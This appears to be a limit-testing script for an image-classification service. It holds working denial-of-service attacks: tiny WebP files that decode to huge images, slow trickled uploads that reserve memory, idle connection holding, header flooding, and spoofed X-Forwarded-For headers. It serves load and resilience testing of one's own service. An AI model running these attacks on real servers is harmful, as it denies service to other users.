"""Attacks that shall cost the others nothing, for `docs/limits.md`: `python -m scripts.attacks NAME http://HOST:PORT`.

Run them against a service of your own only. It has to believe X-Forwarded-For, as it does from 127.0.0.1.
"""

import asyncio
import io
import os
import sys
import time
from collections.abc import Awaitable, Callable
from random import Random
from urllib.parse import urlsplit

import httpx2
from PIL import Image

UPLOAD_PATH = "/api/v1/classify"
# app/runtime/memory_budget.py
UPLOAD_MEMORY_BYTES = 128 * 1024 * 1024
ATTACKER, OTHER = {"X-Forwarded-For": "192.0.2.1"}, {"X-Forwarded-For": "198.51.100.1"}


def photo(seed: int) -> bytes:
    """A JPEG as a phone makes it after scaling down, which has to be decoded still."""
    file = io.BytesIO()
    Image.effect_noise((1600, 1200), 20 + seed % 50).save(file, "JPEG", quality=60)
    return file.getvalue() + Random(time.time_ns()).randbytes(8)


async def decoding(url: str, size: tuple[int, int] = (4890, 4890)) -> str:
    """How long another's photo takes while 60 lossless WebPs of 972 bytes and 24 megapixels are there."""
    file = io.BytesIO()
    Image.new("RGB", size).save(file, "WEBP", lossless=True, quality=0, method=0)
    data = file.getvalue()
    async with httpx2.AsyncClient(base_url=url, timeout=300, limits=httpx2.Limits(max_connections=100)) as api:

        async def send(content: bytes, headers: dict[str, str]) -> tuple[int, float]:
            began = time.monotonic()
            answer = await api.post(UPLOAD_PATH, files={"image": content}, headers=headers)
            return answer.status_code, time.monotonic() - began

        attack = [asyncio.create_task(send(data + os.urandom(972 - len(data)), ATTACKER)) for _ in range(60)]
        await asyncio.sleep(0.5)
        status, seconds = await send(photo(1), OTHER)
        outcomes = await asyncio.gather(*attack)
    statuses = sorted({outcome for outcome, _ in outcomes})
    return f"another's photo: {status} after {seconds:.1f} s; the attack: {statuses}"


async def accepted(url: str) -> str:
    """The same with 12 megapixels, which may be a blank photo of a phone, and are decoded."""
    return await decoding(url, (4000, 3000))


async def uploads(url: str) -> str:
    """What becomes of 40 uploads while five connections promise all memory together and send a byte every 20 s."""
    at = urlsplit(url)
    head = (
        f"POST {UPLOAD_PATH}/batch HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 192.0.2.1\r\n"
        f"Content-Length: {UPLOAD_MEMORY_BYTES // 5}\r\n"
        "Content-Type: multipart/form-data; boundary=b\r\n\r\n"
        '--b\r\nContent-Disposition: form-data; name="image"\r\n\r\n'
    )
    photos = [photo(seed) for seed in range(40)]
    writers = [(await asyncio.open_connection(at.hostname, at.port))[1] for _ in range(5)]

    async def trickle() -> None:
        for writer in writers:
            writer.write(head.encode())
        while True:
            await asyncio.sleep(20)
            for writer in writers:
                writer.write(b"x")

    trickling = asyncio.create_task(trickle())
    await asyncio.sleep(0.5)
    began = time.monotonic()
    async with httpx2.AsyncClient(base_url=url, timeout=300) as api:
        answers = await asyncio.gather(
            *(api.post(UPLOAD_PATH, files={"image": each}, headers=OTHER) for each in photos)
        )
    seconds = time.monotonic() - began
    trickling.cancel()
    for writer in writers:
        writer.close()
    return (
        f"{sum(answer.status_code != 200 for answer in answers)} of 40 uploads refused, the last after {seconds:.1f} s"
    )


async def silence(url: str) -> str:
    """How many of 50 connections that say nothing are open after 30 s."""
    at = urlsplit(url)
    readers = [await asyncio.open_connection(at.hostname, at.port) for _ in range(50)]
    await asyncio.sleep(30)
    still_open = sum(not reader.at_eof() for reader, _ in readers)
    for _, writer in readers:
        writer.close()
    return f"{still_open} of 50 silent connections are open after 30 s"


async def headers(url: str) -> str:
    """How many megabytes of header lines are taken on one connection."""
    at = urlsplit(url)
    reader, writer = await asyncio.open_connection(at.hostname, at.port)
    writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
    sent = 0
    try:
        while sent < 30_000_000 and not reader.at_eof():
            writer.write(b"X-A: " + b"b" * 1000 + b"\r\n")
            await asyncio.wait_for(writer.drain(), 10)
            sent += 1007
            await asyncio.sleep(0)
    except (ConnectionError, TimeoutError):
        pass
    writer.close()
    return f"{sent / 1e6:.1f} of 30 MB of header lines were taken"


ATTACKS: dict[str, Callable[[str], Awaitable[str]]] = {
    "decoding": decoding,
    "accepted": accepted,
    "uploads": uploads,
    "silence": silence,
    "headers": headers,
}


def main() -> None:
    """Run one attack and print what came of it."""
    if len(sys.argv) != 3 or sys.argv[1] not in ATTACKS:
        raise SystemExit(f"python -m scripts.attacks {'|'.join(ATTACKS)} http://HOST:PORT")

    async def run() -> str:
        return await ATTACKS[sys.argv[1]](sys.argv[2])

    print(asyncio.run(run()))


if __name__ == "__main__":
    main()
